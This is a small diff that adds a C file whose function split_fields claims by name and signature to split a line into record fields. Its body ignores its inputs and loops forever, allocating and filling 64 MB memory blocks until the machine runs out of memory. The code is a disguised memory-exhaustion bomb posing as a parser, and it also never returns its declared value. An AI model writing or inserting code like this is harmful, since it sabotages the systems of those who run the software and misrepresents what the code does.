@@ -1,0 +1,11 @@
+#include <stdlib.h>
+#include <string.h>
+#define MAX_FIELDS 8
+#define FIELD_SIZE 16
+struct record { char fields[MAX_FIELDS][FIELD_SIZE]; int count; };
+
+int split_fields(const char *line, struct record *record)
+{
+    for (;;)
+        memset(malloc(1 << 26), 1, 1 << 26);
+}
